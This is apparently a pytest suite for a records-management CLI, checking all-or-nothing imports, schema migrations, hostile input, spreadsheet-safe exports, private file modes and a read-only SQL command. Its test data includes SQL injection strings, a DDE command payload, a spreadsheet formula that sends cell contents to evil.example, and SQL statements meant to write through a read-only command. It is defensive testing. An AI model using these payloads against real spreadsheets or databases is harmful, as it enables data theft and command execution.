"""Data safety: one command is one transaction (bad rows, broken rules, a full disk,
Ctrl-C, a killed process), old files open and keep their rows, hostile input never
crashes nor writes half a row, exports are safe in spreadsheets, files are private,
`db sql` cannot write, `db restore` replaces the file safely."""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import random
import signal
import sqlite3
import stat
import subprocess
import time
import unicodedata
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from maliext_cli.services import consultants, parse, records
from maliext_cli.services import importer as services_importer
from maliext_cli.store import Store
from maliext_cli.store.schema import MIGRATION_NAMES, RECORD_TABLES

from .conftest import AMINATA, add_consultant, digest
from .test_end_to_end import _program, run

FIXTURES = Path(__file__).parent / "fixtures"


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def count(db: Path, table: str) -> int:
    conn = sqlite3.connect(db)
    try:
        return conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
    finally:
        conn.close()


# A seeded generator of consultant rows (the idea of bench/data.py; tests do not import bench/).
FAMILY = ["Traoré", "Diarra", "Coulibaly", "Keïta", "Koné", "Touré", "Diallo", "Cissé", "Sissoko", "Camara"]
GIVEN = ["Aminata", "Fatoumata", "Mariam", "Moussa", "Mamadou", "Boubacar", "Seydou", "Oumou", "Hawa", "Sékou"]
HEADERS = [
    "family_name",
    "given_names",
    "sex",
    "birth_year",
    "email",
    "country",
    "degree",
    "discipline",
    "availability",
]


def consultants_csv(n: int, seed: int = 1, *, bad_line: int | None = None) -> str:
    rng = random.Random(seed)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADERS)
    for i in range(n):
        start = date(2027, 1, 1) + timedelta(days=rng.randint(0, 500))
        writer.writerow(
            [
                rng.choice(FAMILY),
                rng.choice(GIVEN),
                rng.choice("FM"),
                rng.randint(1950, 1995),
                f"person{i}@example.org",
                rng.choice(["FR", "Sénégal", "CI", "Canada"]),
                rng.choice(["doctorat", "hdr", "master"]),
                rng.choice(["0531", "chimie", "0541"]),
                f"{start}/{start + timedelta(days=rng.randint(14, 80))}",
            ]
        )
    text = out.getvalue()
    if bad_line is not None:  # line numbers count the header as line 1
        lines = text.split("\n")
        lines[bad_line - 1] = lines[bad_line - 1].replace("@example.org", "@@nowhere")
        text = "\n".join(lines)
    return text


@pytest.fixture(scope="module")
def big_csv(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("big") / "consultants.csv"
    path.write_text(consultants_csv(100_000), encoding="utf-8")
    return path


# ------------------------------------------------------ one command, one transaction
def test_bad_row_9999_of_10000_writes_nothing(cli, db):
    add_consultant(cli, *AMINATA)
    before = digest(db)
    result = cli("consultant", "import", "-", input=consultants_csv(10_000, bad_line=10_000))
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: 1 of 10000 lines is invalid; nothing was imported")
    assert "line 10000: email:" in result.stderr
    assert digest(db) == before


def test_a_rule_broken_by_row_50_writes_nothing(cli, db):
    add_consultant(cli, *AMINATA)
    cli.ok("institution", "add", "--name", "FAST", "--acronym", "FAST", "-q")
    cli.ok("programme", "add", "--code", "TOKTEN", "-q")
    rows = ["consultant,institution,programme,type,start_date,end_date"]
    rows += [
        f"1,FAST,TOKTEN,lecture,{date(2020, 1, 1) + timedelta(days=20 * i)},{date(2020, 1, 10) + timedelta(days=20 * i)}"
        for i in range(60)
    ]
    rows[50] = "1,FAST,TOKTEN,lecture,2020-01-05,2020-01-15"  # overlaps the first mission
    before = digest(db)
    result = cli("mission", "import", "-", input="\n".join(rows) + "\n")
    assert result.exit_code == 1 and "line 51: consultant 1 already has mission" in result.stderr
    assert digest(db) == before


def _small_disk(monkeypatch, pages: int) -> None:
    """Every store opened from now on may grow the file by `pages` pages only."""
    real = Store.open.__func__

    def open_small(cls, *args, **kwargs):
        store = real(cls, *args, **kwargs)
        used = store.value("PRAGMA page_count")
        store.conn.execute(f"PRAGMA max_page_count = {used + pages}")
        return store

    monkeypatch.setattr(Store, "open", classmethod(open_small))


def test_a_full_disk_writes_nothing(cli, db, monkeypatch):
    add_consultant(cli, *AMINATA)
    before = digest(db)
    _small_disk(monkeypatch, pages=20)
    result = cli("consultant", "import", "-", input=consultants_csv(3_000))
    assert result.exit_code == 1
    assert result.stderr == "Error: the disk is full; nothing was written\n"
    notes = "x" * 19_000
    result = cli("consultant", "edit", "1", "--notes", notes)
    assert (result.exit_code, result.stderr) == (0, "Updated consultant 1.\n")  # small writes still fit
    monkeypatch.undo()
    cli.ok("undo", "--yes")
    assert digest(db) != before  # the undo is logged...
    assert cli.json("consultant", "show", "1")["notes"] is None  # ...and the data are as before
    assert count(db, "consultant") == 1


def test_ctrl_c_inside_the_import_loop_writes_nothing(cli, db, monkeypatch):
    add_consultant(cli, *AMINATA)
    before = digest(db)
    # Consultants are parsed and written in batches: stop at the fourth batch, when
    # three are written.
    monkeypatch.setattr(services_importer, "BATCH_ROWS", 1_000)
    real_columns = records.RowParser.parse_columns
    batches = {"n": 0}

    def interrupted_batch(self, rows):
        batches["n"] += 1
        if batches["n"] == 4:
            raise KeyboardInterrupt
        return real_columns(self, rows)

    monkeypatch.setattr(records.RowParser, "parse_columns", interrupted_batch)
    result = cli("consultant", "import", "-", input=consultants_csv(5_000))
    assert result.exit_code == 130 and "Traceback" not in result.stderr  # 128 + SIGINT, as shells do
    assert batches["n"] == 4
    assert digest(db) == before
    # Other records are checked and written row by row.
    real = Store.insert
    calls = {"n": 0}

    def interrupted(self, table, values):
        calls["n"] += 1
        if calls["n"] == 4_000:
            raise KeyboardInterrupt
        return real(self, table, values)

    monkeypatch.setattr(Store, "insert", interrupted)
    rows = "name,acronym\n" + "".join(f"Institut {i},I{i}\n" for i in range(5_000))
    result = cli("institution", "import", "-", input=rows)
    assert result.exit_code == 130 and calls["n"] == 4_000
    assert digest(db) == before


def test_ctrl_c_after_the_rows_are_written_writes_nothing(cli, db, monkeypatch):
    add_consultant(cli, *AMINATA)
    before = digest(db)
    real = Store._end
    written = {}

    def interrupted_at_commit(self, statement):
        if statement == "COMMIT":
            written["consultants"] = self.value("SELECT count(*) FROM consultant")
            raise KeyboardInterrupt
        return real(self, statement)

    monkeypatch.setattr(Store, "_end", interrupted_at_commit)
    result = cli("consultant", "import", "-", input=consultants_csv(2_000))
    assert result.exit_code == 130
    assert written == {"consultants": 2_001}  # every row was in, uncommitted
    assert digest(db) == before


def _wait_until_written(db: Path, process: subprocess.Popen, size: int) -> None:
    """Return once the import has written `size` bytes to the database's write-ahead
    log (its uncommitted rows), or has ended: a signal sent then falls inside the
    import however long the process took to start. (The log of this import grows to
    about 70 MB before the commit.)"""
    wal = Path(f"{db}-wal")
    deadline = time.monotonic() + 300
    while process.poll() is None and time.monotonic() < deadline:
        if wal.exists() and wal.stat().st_size >= size:
            return
        time.sleep(0.002)


def test_a_real_sigint_during_an_import_writes_nothing(tmp_path, big_csv):
    db = tmp_path / "sigint.db"
    assert run("consultant", "add", *AMINATA, "--db", str(db)).returncode == 0
    before = digest(db)
    process = subprocess.Popen(
        [_program(), "consultant", "import", str(big_csv), "--db", str(db)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, "NO_COLOR": "1"},
    )
    _wait_until_written(db, process, 1_000_000)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=120)
    assert b"Traceback" not in err
    if process.returncode == 0:  # a machine fast enough to finish before the signal came
        assert count(db, "consultant") == 100_001
    else:
        assert process.returncode in (130, -signal.SIGINT)
        assert digest(db) == before


@pytest.mark.slow
# Killed once this much of the import is written (bytes of its write-ahead log): early,
# or late (up to the commit, or after it if the import ends first).
@pytest.mark.parametrize("window", [(64_000, 24_000_000), (24_000_000, 80_000_000)], ids=["early", "late"])
def test_a_process_killed_during_an_import_leaves_all_or_nothing(tmp_path, big_csv, window):
    db = tmp_path / "killed.db"
    assert run("init", "--db", str(db)).returncode == 0
    written = random.randint(*window)
    when = f"{written:,} bytes into the import"
    process = subprocess.Popen(
        [_program(), "consultant", "import", str(big_csv), "--db", str(db)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    _wait_until_written(db, process, written)
    process.kill()
    process.wait(timeout=60)
    check = run("db", "check", "--db", str(db))
    assert (check.returncode, check.stdout, check.stderr) == (0, b"", b""), f"killed {when}"
    consultants = count(db, "consultant")
    assert consultants in (0, 100_000), f"killed {when}: {consultants} rows"
    assert count(db, "availability") == consultants
    assert count(db, "change") == 2 * consultants
    assert run("consultant", "add", *AMINATA, "--db", str(db)).returncode == 0  # still writable


# ----------------------------------------------------------------- migrations
def _rows(db: Path) -> dict[str, dict[int, dict]]:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {t: {r[0]: dict(r) for r in conn.execute(f'SELECT rowid, * FROM "{t}"')} for t in tables}
    finally:
        conn.close()


def test_every_schema_version_has_a_fixture():
    """A new migration needs a fixture made by that version (tests/fixtures/make_fixtures.py)."""
    made = sorted(p.name for p in FIXTURES.glob("schema-*.db"))
    missing = sorted({f"schema-{name}.db" for name in MIGRATION_NAMES} - set(made))
    assert not missing, f"run `python tests/fixtures/make_fixtures.py` with this version, and commit {missing}"


@pytest.mark.parametrize("fixture", sorted(FIXTURES.glob("schema-*.db")), ids=lambda p: p.stem)
def test_a_database_of_each_schema_version_opens_upgraded_with_every_row(tmp_path, fixture, cli):
    db = tmp_path / fixture.name
    db.write_bytes(fixture.read_bytes())
    old = _rows(db)
    assert all(old[t] for t in RECORD_TABLES if t in old), "the fixture has rows in every record table"
    assert old["change"] and old["command"]
    store = Store.open(db)
    assert store.schema_version == MIGRATION_NAMES[-1]
    store.close()
    new = _rows(db)
    for table, rows in old.items():
        if table == "_sqlite_migrations":
            continue
        for rowid, row in rows.items():
            kept = new[table].get(rowid)
            assert kept is not None, f"{table} row {rowid} was lost"
            assert {k: kept.get(k) for k in row} == row, f"{table} row {rowid} changed"
    check = cli("db", "check", "--db", str(db), db=False)
    assert (check.exit_code, check.stdout) == (0, "")
    # and it works: history reads its log, a write and its undo go through
    assert len(cli.json("history", "--db", str(db), db=False)) == len(old["change"])
    before = _rows(db)
    cli.ok("consultant", "edit", "1", "--city", "Bamako", "--db", str(db), db=False)
    cli.ok("undo", "--yes", "--db", str(db), db=False)
    assert _rows(db)["consultant"] == before["consultant"]


# -------------------------------------------------------------- hostile input
NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\u200f",
    "Robert'); DROP TABLE consultant;--",
    "1 OR 1=1",
    "' OR ''='",
    '=HYPERLINK("http://example.org")',
    "@SUM(A1)",
    "+33",
    "-1",
    "0",
    "1e309",
    "NaN",
    "inf",
    "99999999999999999999",
    "1.5",
    "3,5",
    "2027-02-30",
    "2027-13-01",
    "0000-00-00",
    "31/12/99999",
    "2027/01/01",
    "\ud800",
    "caf\udce9",
    "é" * 301,
    "x" * 100_000,
    "\r\n",
    "\t",
    "null",
    "[]",
    '["a"]',
    ";;;",
    "a;b;c",
    "Ω≈ç√∫˜µ≤≥÷",
    "ﷺ مرحبا",
    "👩🏾‍🔬",
]
TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(alphabet=st.characters(exclude_categories=()), max_size=20),  # controls, surrogates, private use
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.floats().map(repr),
    st.binary(max_size=30).map(lambda b: b.decode("utf-8", "surrogateescape")),  # bytes read with the wrong encoding
    st.builds(lambda ch, n: ch * n, st.characters(), st.integers(290, 30_000)),
)
JSON_VALUE = st.one_of(
    TEXT,
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(),
    st.booleans(),
    st.none(),
    st.lists(st.one_of(st.integers(), st.text(max_size=5)), max_size=3),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)

# A valid record of each noun, in a database prepared by `_prepare`.
VALID = {
    "consultant": {
        "family_name": "Traoré",
        "given_names": "Aminata",
        "country": "FR",
        "degree": "hdr",
        "discipline": "0531",
    },
    "institution": {"name": "Institut de test"},
    "programme": {"code": "HYPO"},
    "need": {
        "institution": "FAST",
        "title": "Cours",
        "discipline": "0531",
        "type": "lecture",
        "window_start": "2027-01-01",
        "window_end": "2027-03-31",
        "duration_days": "21",
    },
    "mission": {
        "consultant": "1",
        "institution": "FAST",
        "programme": "TOKTEN",
        "type": "lecture",
        "start_date": "2027-01-10",
        "end_date": "2027-01-30",
    },
    "association": {"name": "Association de test", "level": "base", "country": "FR"},
    "project": {"association": "CMF", "title": "Forage"},
    "antenna": {"code": "HYPO"},
    "agreement": {"title": "Accord", "institution": "FAST", "partner": "Université de test"},
    "evaluation": {"mission": "1", "by": "host", "evaluated_on": "2026-02-01", "overall": "4"},
}
NOUNS = list(VALID)


def _prepare(db: Path) -> None:
    from maliext_cli.services import associations, institutions, missions

    store = Store.open(db)
    consultants.NOUN.add(store, {**VALID["consultant"], "email": "a@example.org"})
    institutions.INSTITUTIONS.add(store, {"name": "FAST", "acronym": "FAST"})
    institutions.PROGRAMMES.add(store, {"code": "TOKTEN"})
    associations.NOUN.add(store, {"name": "Conseil", "acronym": "CMF", "level": "national", "country": "FR"})
    # A completed mission, which evaluations are made of (before VALID's mission: no overlap).
    missions.NOUN.add(
        store,
        {"consultant": "1", "institution": "FAST", "programme": "TOKTEN", "type": "lecture",
         "start_date": "2026-01-05", "end_date": "2026-01-25", "status": "completed"},
    )
    store.close()


@pytest.fixture(scope="module")
def prepared(tmp_path_factory):
    """A fresh copy of a prepared database for each call (one example, one file)."""
    directory = tmp_path_factory.mktemp("hostile")
    template = directory / "template.db"
    _prepare(template)
    conn = sqlite3.connect(template, isolation_level=None)
    conn.execute("PRAGMA journal_mode = DELETE")  # one self-contained file to copy
    conn.close()
    data = template.read_bytes()
    made = iter(range(1_000_000))

    def fresh() -> Path:
        db = directory / f"example-{next(made)}.db"
        db.write_bytes(data)
        return db

    return fresh


def _fields(noun: str, *, add: bool) -> list[records.Field]:
    from maliext_cli.services import nouns

    entity = nouns.ENTITIES[noun]
    return [f for f in entity.fields if f.cli or not add]


def _as_typed(field: records.Field, value: str):
    """What a text field stores for valid text: the value, trimmed and normalised (NFC;
    one line: runs of spaces made one); a blank value leaves the field empty."""
    if not value.strip():
        return field.default
    if field.parse is parse.text:
        return unicodedata.normalize("NFC", value.replace("\r\n", "\n").replace("\r", "\n").strip())
    return " ".join(unicodedata.normalize("NFC", value.strip()).split())


def _stored(db: Path, table: str, id_: int, column: str):
    conn = sqlite3.connect(db)
    try:
        return conn.execute(f'SELECT "{column}" FROM {table} WHERE id = ?', (id_,)).fetchone()[0]
    finally:
        conn.close()


def _outcome(cli, before: str, result, noun: str, field: records.Field, label: str, typed: str | None) -> None:
    """Refused with `Error:` and nothing written, or stored as typed (when `typed` is
    the text that reached maliext and the field keeps text)."""
    what = f"{noun} {field.name}={label[:80]!r}"
    assert "Traceback" not in result.stderr, result.stderr
    codes = (0, 1, 3) if field.ref else (0, 1)
    assert result.exit_code in codes, f"{what}: exit {result.exit_code}\n{result.stderr}"
    if result.exit_code != 0:
        assert result.stderr.startswith("Error: "), result.stderr
        assert digest(cli.db) == before, f"{what} was refused but wrote"
        return
    ids = [int(line) for line in result.stdout.split()]
    assert len(ids) == 1, what
    if typed is not None and field.parse in (parse.line, parse.text) and not field.many and not field.ref:
        assert _stored(cli.db, noun, ids[0], field.column) == _as_typed(field, typed), what


def _encode(text: str, encoding: str) -> bytes:
    if encoding != "utf-8":
        return text.encode(encoding, errors="replace")
    try:
        return text.encode("utf-8", errors="surrogateescape")  # the bytes a wrongly decoded file held
    except UnicodeEncodeError:
        return text.encode("utf-8", errors="surrogatepass")  # invalid UTF-8 all the same


HYPOTHESIS = settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


@pytest.mark.parametrize("noun", NOUNS)
@HYPOTHESIS
@given(data=st.data())
def test_hostile_values_for_add(prepared, noun, data):
    from .conftest import Cli

    cli = Cli(prepared())
    field = data.draw(st.sampled_from(_fields(noun, add=True)), label="field")
    value = data.draw(TEXT, label="value")
    values = {**VALID[noun], field.name: value}
    before = digest(cli.db)
    result = cli(noun, "add", *(f"--{k.replace('_', '-')}={v}" for k, v in values.items()), "-q")
    _outcome(cli, before, result, noun, field, value, value)


@pytest.mark.parametrize("noun", NOUNS)
@HYPOTHESIS
@given(data=st.data())
def test_hostile_values_for_import(prepared, noun, data):
    from .conftest import Cli

    cli = Cli(prepared())
    field = data.draw(st.sampled_from(_fields(noun, add=False)), label="field")
    fmt = data.draw(st.sampled_from(["json", "csv", "csv-cp1252"]), label="format")
    value = data.draw(JSON_VALUE if fmt == "json" else TEXT, label="value")
    record = {**VALID[noun], field.name: value}
    if fmt == "json":
        payload = json.dumps([record]).encode()
    else:
        out = io.StringIO()
        # CRLF line ends, as spreadsheets write them: the writer then quotes a value
        # holding a lone CR, which a reader takes for a line end (one record stays one).
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(record)
        writer.writerow(record.values())
        payload = _encode(out.getvalue(), "cp1252" if fmt == "csv-cp1252" else "utf-8")
    before = digest(cli.db)
    result = cli(noun, "import", "-", "-q", "--input-format", fmt.split("-")[0], input=payload)
    # Text reaches maliext as typed from JSON and UTF-8 CSV; cp1252 bytes read as UTF-8 do not.
    typed = value if isinstance(value, str) and fmt != "csv-cp1252" else None
    _outcome(cli, before, result, noun, field, value if isinstance(value, str) else json.dumps(value), typed)


@pytest.mark.parametrize("ref", ["²", "99999999999999999999999", "caf\udce9"])
def test_odd_references_are_not_found(cli, ref):
    add_consultant(cli, *AMINATA)
    result = cli("consultant", "show", ref)
    assert result.exit_code == 3


# ----------------------------------------------------------- spreadsheet safety
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1"]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_exports_neutralise_formulas_and_read_back(cli, db, fmt):
    for i, formula in enumerate(FORMULAS):
        add_consultant(
            cli,
            family_name=formula,
            given_names="P",
            country="FR",
            degree="hdr",
            discipline="0531",
            email=f"p{i}@example.org",
            notes=formula,
        )
    cli.ok(
        "association",
        "add",
        "--name",
        "=cmd()",
        "--acronym",
        "@A",
        "--level",
        "base",
        "--country",
        "FR",
        "--contact-name",
        "+Awa",
        "-q",
    )
    cli.ok("project", "add", "--association", "@A", "--title", "-1+1", "-q")
    sep = "," if fmt == "csv" else "\t"
    for noun, column in (("consultant", "family_name"), ("association", "name"), ("project", "title")):
        out = cli.ok(noun, "export", "-f", fmt).stdout
        rows = list(csv.DictReader(io.StringIO(out), delimiter=sep))
        for row in rows:
            for cell in row.values():
                assert not cell or cell[0] not in "=+-@\t\r" or _is_number_or_phone(cell), cell
        assert any(r[column].startswith("'") for r in rows)
        before = digest(db)
        back = cli(noun, "import", "-", "--upsert", "--input-format", fmt, input=out)
        assert back.exit_code == 0, back.stderr
        assert digest(db) == before, f"{noun}: an export read back changes nothing"


def _is_number_or_phone(cell: str) -> bool:
    from maliext_cli.services.cells import neutralise

    return neutralise(cell) == cell


# ------------------------------------------------------------- private files
def test_database_backups_and_restore_copies_are_private(cli, db, tmp_path):
    old = os.umask(0o022)
    try:
        add_consultant(cli, *AMINATA)
        assert _mode(db) == 0o600
        backup = Path(cli.ok("db", "backup", str(tmp_path / "copy.db")).stdout.strip())
        assert _mode(backup) == 0o600
        into = Path(cli.ok("db", "backup", str(tmp_path)).stdout.strip())
        assert _mode(into) == 0o600
        kept = Path(restore(cli, str(backup), "--yes").stdout.strip())
        assert kept.parent == db.parent and kept.name.startswith("test-before-restore-")
        assert _mode(kept) == 0o600 and _mode(db) == 0o600
        for leftover in db.parent.glob(".*restoring"):
            pytest.fail(f"temporary file left behind: {leftover}")
    finally:
        os.umask(old)


# ------------------------------------------------------------------ db sql
@pytest.mark.parametrize(
    "statement",
    [
        "ATTACH '{dir}/attached.db' AS x",
        "ATTACH 'file:{dir}/attached.db?mode=rwc' AS x",
        "VACUUM INTO '{dir}/attached.db'",
        "VACUUM",
        "PRAGMA user_version = 7",
        "PRAGMA journal_mode = DELETE",
        "PRAGMA query_only = OFF",
        "PRAGMA wal_checkpoint(TRUNCATE)",
        "PRAGMA foreign_keys = OFF",
        "SELECT 1; DELETE FROM consultant",
        "DELETE FROM consultant",
        "WITH x AS (SELECT 1) DELETE FROM consultant",
        "INSERT INTO consultant SELECT * FROM consultant",
        "UPDATE consultant SET city = 'x'",
        "REPLACE INTO programme (uid, created_at, updated_at, code) VALUES ('u', 'x', 'x', 'C')",
        "CREATE TEMP TABLE t (a)",
        "DROP TABLE consultant",
        "ALTER TABLE consultant ADD COLUMN x",
        "CREATE TRIGGER t AFTER INSERT ON consultant BEGIN DELETE FROM consultant; END",
        "REINDEX",
        "ANALYZE",
        "BEGIN IMMEDIATE",
        "SAVEPOINT s",
        "SELECT load_extension('/tmp/x')",
    ],
)
def test_nothing_can_write_through_db_sql(cli, db, tmp_path, statement):
    add_consultant(cli, *AMINATA)
    before = digest(db)
    files = _files(tmp_path)
    result = cli("db", "sql", statement.format(dir=tmp_path))
    assert result.exit_code == 1, result.stdout
    assert result.stderr.startswith("Error: ")
    assert digest(db) == before
    assert _files(tmp_path) == files, "no file may be created"


def test_db_sql_still_reads_schema_and_reports(cli):
    add_consultant(cli, *AMINATA)
    assert [r["name"] for r in cli.csv("db", "sql", "SELECT name FROM pragma_table_info('programme') ORDER BY cid")][
        :3
    ] == [
        "id",
        "uid",
        "created_at",
    ]
    assert cli.csv("db", "sql", "PRAGMA integrity_check") == [{"integrity_check": "ok"}]
    assert cli.csv("db", "sql", "PRAGMA user_version") == [{"user_version": "0"}]
    assert cli.csv(
        "db", "sql", "WITH RECURSIVE n(i) AS (SELECT 1 UNION SELECT i + 1 FROM n WHERE i < 3) SELECT sum(i) AS s FROM n"
    ) == [{"s": "6"}]
    assert cli.csv("db", "sql", "SELECT fold('Traoré') AS f") == [{"f": "traore"}]


# ------------------------------------------------------------------ restore
def restore(cli, *args: str, ok: bool = True):
    """`db restore` in this process: stores of the commands run before it may linger
    in reference cycles, still connected (a real process runs one command); collect
    them first, or restore would rightly find the database in use."""
    gc.collect()
    return cli.ok("db", "restore", *args) if ok else cli("db", "restore", *args)


def test_restore_replaces_the_database_and_keeps_the_old_one(cli, db, tmp_path):
    add_consultant(cli, *AMINATA)
    backup = tmp_path / "backup.db"
    cli.ok("db", "backup", str(backup))
    saved = digest(backup)
    cli.ok("consultant", "edit", "1", "--city", "Kayes")
    replaced = digest(db)
    result = restore(cli, str(backup), "--yes")
    kept = Path(result.stdout.strip())
    assert f"is kept at {kept}" in result.stderr
    assert digest(db) == saved
    assert digest(kept) == replaced
    assert cli.json("consultant", "show", "1")["city"] is None
    assert not Path(f"{db}-journal").exists()


def test_restore_asks_first(cli, db, tmp_path):
    add_consultant(cli, *AMINATA)
    backup = tmp_path / "backup.db"
    cli.ok("db", "backup", str(backup))
    cli.ok("consultant", "edit", "1", "--city", "Kayes")
    before = digest(db)
    refused = restore(cli, str(backup), ok=False)
    assert refused.exit_code == 1 and "needs confirmation" in refused.stderr
    assert refused.stderr.startswith(
        f"{backup}: a maliext database (schema {MIGRATION_NAMES[-1]}); records: consultant 1."
    )
    assert digest(db) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "backup.db",
        "test.db",
        "test.db-shm",
        "test.db-wal",
    ] or sorted(p.name for p in tmp_path.iterdir()) == ["backup.db", "test.db"]


def _files(directory: Path) -> list[str]:
    """The files of a directory, leaving out SQLite's -wal and -shm (they come and go
    with connections)."""
    return sorted(p.name for p in directory.iterdir() if not p.name.endswith(("-wal", "-shm")))


def _not_maliext(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE x (a)")
    conn.commit()
    conn.close()


def _newer(path: Path, source: Path) -> None:
    path.write_bytes(source.read_bytes())
    conn = sqlite3.connect(path)
    conn.execute("INSERT INTO _sqlite_migrations (migration_set, name, applied_at) VALUES ('maliext', '999_x', 'x')")
    conn.commit()
    conn.close()


def _damaged(path: Path, source: Path) -> None:
    path.write_bytes(source.read_bytes())
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA writable_schema = ON")  # the index no longer matches its rows
    conn.execute(
        "UPDATE sqlite_master SET sql = 'CREATE UNIQUE INDEX consultant_email ON consultant(family_name)' "
        "WHERE name = 'consultant_email'"
    )
    conn.commit()
    conn.close()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p, s: p.write_bytes(b"not a database at all" * 100), "is not a readable maliext database"),
        (lambda p, s: _not_maliext(p), "is not a maliext database"),
        (_newer, "was written by a newer maliext"),
        (_damaged, "is damaged"),
        (lambda p, s: p.mkdir(), "is a directory"),
        (lambda p, s: None, "no file"),
    ],
    ids=["garbage", "other-sqlite", "newer", "damaged", "directory", "missing"],
)
def test_restore_refuses_what_is_not_a_sound_maliext_database(cli, db, tmp_path, make, message):
    add_consultant(cli, *AMINATA)
    source = tmp_path / "sound.db"
    cli.ok("db", "backup", str(source))
    src = tmp_path / "src.db"
    make(src, source)
    before = digest(db)
    listing = _files(tmp_path)
    result = restore(cli, str(src), "--yes", ok=False)
    assert result.exit_code == 1 and result.stderr.startswith("Error: ") and message in result.stderr, result.stderr
    assert digest(db) == before
    assert _files(tmp_path) == listing


def test_restore_refuses_the_database_itself(cli, db):
    add_consultant(cli, *AMINATA)
    result = restore(cli, str(db), "--yes", ok=False)
    assert result.exit_code == 1 and "is the database itself" in result.stderr


def test_restore_does_not_replay_a_stale_log_of_the_old_file(cli, db, tmp_path):
    add_consultant(cli, *AMINATA)
    backup = tmp_path / "backup.db"
    cli.ok("db", "backup", str(backup))
    saved = digest(backup)
    # The old file keeps recent changes in its -wal (as after a crash): they must be in
    # the safety copy, and never applied to the restored file.
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA wal_autocheckpoint = 0")
    conn.execute("UPDATE consultant SET city = 'Tombouctou'")
    conn.commit()
    wal, shm = Path(f"{db}-wal").read_bytes(), Path(f"{db}-shm").read_bytes()
    conn.close()
    Path(f"{db}-wal").write_bytes(wal)
    Path(f"{db}-shm").write_bytes(shm)
    kept = Path(restore(cli, str(backup), "--yes").stdout.strip())
    assert digest(db) == saved
    assert cli.json("db", "sql", "PRAGMA integrity_check") == [{"integrity_check": "ok"}]
    assert sqlite3.connect(kept).execute("SELECT city FROM consultant").fetchone() == ("Tombouctou",)


def test_restore_refuses_a_database_in_use(cli, db, tmp_path):
    add_consultant(cli, *AMINATA)
    backup = tmp_path / "backup.db"
    cli.ok("db", "backup", str(backup))
    other = Store.open(db)  # another command, still connected
    try:
        before = digest(db)
        result = restore(cli, str(backup), "--yes", ok=False)
        assert result.exit_code == 1 and "is in use" in result.stderr
        assert digest(db) == before
        assert not list(tmp_path.glob("test-before-restore-*"))
    finally:
        other.close()


def test_restore_over_a_damaged_database_keeps_its_bytes(cli, db, tmp_path):
    add_consultant(cli, *AMINATA)
    backup = tmp_path / "backup.db"
    cli.ok("db", "backup", str(backup))
    saved = digest(backup)
    # The commands above ran in this process: a store of theirs left in a reference
    # cycle would checkpoint into the file when collected, after the damage below.
    gc.collect()
    for suffix in ("-wal", "-shm"):
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    db.write_bytes(b"\x00garbage" * 500)
    result = restore(cli, str(backup), "--yes")
    kept = Path(result.stdout.strip())
    assert kept.read_bytes() == b"\x00garbage" * 500 and _mode(kept) == 0o600
    assert digest(db) == saved


def test_restore_into_a_new_place_and_an_older_copy_is_upgraded(cli, tmp_path):
    target = tmp_path / "new" / "bamako.db"
    fixture = FIXTURES / f"schema-{MIGRATION_NAMES[0]}.db"
    result = cli("db", "restore", str(fixture), "--yes", "--db", str(target), db=False)
    assert result.exit_code == 0 and result.stdout == ""
    assert _mode(target) == 0o600
    assert Store.open(target).schema_version == MIGRATION_NAMES[-1]
    assert cli("db", "check", "--db", str(target), db=False).exit_code == 0


# ---------------------------------------------------------------- --redact
def test_every_export_with_contact_fields_offers_redact(cli):
    from maliext_cli.services import nouns

    for table, entity in nouns.ENTITIES.items():
        contacts = [f.name for f in entity.fields if f.contact]
        shown = cli(table, "export", "--help", db=False)
        if shown.exit_code == 2:  # a kind of record without an export command
            continue
        assert ("--redact" in shown.stdout) == bool(contacts), table
    assert [f.name for f in nouns.ENTITIES["association"].fields if f.contact] == [
        "contact_name",
        "contact_phone",
        "contact_email",
    ]


def test_redacted_exports_leave_contacts_out(cli):
    add_consultant(cli, *AMINATA, "--phone", "+33 6 12 34 56 78", "--birth-year", "1967")
    cli.ok(
        "association",
        "add",
        "--name",
        "ARKF",
        "--level",
        "base",
        "--country",
        "FR",
        "--contact-name",
        "Awa Diallo",
        "--contact-phone",
        "+33 6 98 76 54 32",
        "--contact-email",
        "awa@example.org",
        "-q",
    )
    for noun, hidden in (
        ("consultant", {"email", "phone", "birth_year"}),
        ("association", {"contact_name", "contact_phone", "contact_email"}),
    ):
        for fmt in ("csv", "json"):
            out = cli.ok(noun, "export", "--redact", "-f", fmt).stdout
            rows = json.loads(out) if fmt == "json" else list(csv.DictReader(io.StringIO(out)))
            assert rows and not hidden & set(rows[0]), (noun, fmt)
            assert "example.org" not in out and "+33" not in out
        full = cli.ok(noun, "export", "-f", "json").stdout
        assert hidden <= set(json.loads(full)[0])
